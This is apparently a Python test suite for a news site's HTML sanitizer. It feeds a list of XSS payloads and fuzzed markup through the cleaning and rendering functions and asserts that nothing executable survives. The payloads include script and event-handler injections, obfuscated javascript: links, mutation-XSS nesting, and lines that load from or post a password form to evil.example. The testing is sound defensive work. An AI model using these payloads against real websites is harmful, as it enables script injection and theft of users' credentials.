"""Whatever comes in, nothing executable comes out, and cleaning twice changes nothing."""

from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from news.body import BLOCKS, clean, render, text
from news.body.grammar import merged

from .shelf import SHELF

STORABLE = merged(block.elements for block in BLOCKS)
ATTRIBUTES = {"class"}.union(*STORABLE.values())
RENDERABLE = STORABLE.keys() | {"picture", "source", "img", "svg", "use", "span", "small"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<p onclick=alert(1)>a</p>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href='&#x6a;avascript:alert(1)'>a</a>",
    "<a href=' \x01javascript:alert(1)'>a</a>",
    "<a href='x' style='background:url(javascript:alert(1))'>a</a>",
    "<style>@import 'https://evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password><button>ok</button></form>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<figure data-image='1\" onload=\"alert(1)'><figcaption>a</figcaption></figure>",
    "<figure data-video='youtube:\"><script>alert(1)</script>'></figure>",
    "<hr class=page data-title='\"><script>alert(1)</script>'>",
    "<p class='btn' id='comments' data-embed='//evil.example' data-lb>a</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>a</summary></details>",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
    "<<script>script>alert(1)<</script>/script>",
    "<table><td><a href=javascript:alert(1)>a",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
]


class Tags(HTMLParser):
    """Collects the elements and attributes that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


def assert_stored_is_harmless(stored: str) -> None:
    for tag, attributes in Tags(stored).seen:
        assert tag in STORABLE
        assert attributes.keys() <= ATTRIBUTES
        assert not is_executable(attributes.get("href"))


def is_executable(address: str | None) -> bool:
    return (address or "").strip().lower().startswith(("javascript", "data:", "vbscript"))


def assert_rendered_is_harmless(html: str) -> None:
    for tag, attributes in Tags(html).seen:
        assert tag in RENDERABLE
        assert not any(name.startswith("on") or name == "style" for name in attributes)
        assert not is_executable(attributes.get("href"))


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_stored_harmless(html: str) -> None:
    stored = clean(f"<p>before</p>{html}<p>after</p>")
    assert_stored_is_harmless(stored)
    assert clean(stored) == stored
    assert "before" in stored


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_that_was_never_cleaned_is_shown_harmless(html: str) -> None:
    assert_rendered_is_harmless(render(html, SHELF))


def test_deep_nesting_and_long_input_end_in_time() -> None:
    for html in (
        "<div>" * 20_000,
        "<b>" * 5_000 + "a",
        "<ul><li>" * 3_000,
        "<table><tr><td>" * 1_000,
        "<blockquote>" * 5_000 + "a",
        "<a href=x>" * 5_000,
        "a<br>" * 5_000,
    ):
        stored = clean(html)
        assert clean(stored) == stored


tags = st.sampled_from(
    [*sorted(STORABLE), "b", "i", "h1", "h5", "div", "span", "center", "q", "font", "img", "script"]
)
attributes = st.sampled_from(
    [
        "",
        ' class="note"',
        ' class="fact"',
        ' class="duo"',
        ' class="gallery"',
        ' class="pull"',
        ' class="timeline"',
        ' class="qa"',
        ' class="page" data-title="a &quot; b"',
        ' class="r" colspan="2"',
        ' rowspan="3"',
        ' data-image="12"',
        ' data-video="youtube:dQw4w9WgXcQ"',
        ' href="https://a.example"',
        ' href="javascript:x"',
        ' onclick="x"',
    ]
)
words = st.text(alphabet="ab 　\xa0\n<>&\"'汉。", max_size=6)


@st.composite
def markup(draw: st.DrawFn, inner: st.SearchStrategy[str]) -> str:
    tag = draw(tags)
    contents = "".join(draw(st.lists(inner, max_size=4)))
    return f"<{tag}{draw(attributes)}>{contents}</{tag}>"


stories = st.recursive(words, markup, max_leaves=25)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(stories)
def test_any_markup_is_stored_harmless_and_cleaning_twice_changes_nothing(html: str) -> None:
    stored = clean(html)
    assert clean(stored) == stored
    assert_stored_is_harmless(stored)
    assert_rendered_is_harmless(render(stored, SHELF))
    assert_rendered_is_harmless(render(html, SHELF))
    text(stored)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_any_text_at_all_is_stored_harmless(html: str) -> None:
    stored = clean(html)
    assert clean(stored) == stored
    assert_stored_is_harmless(stored)
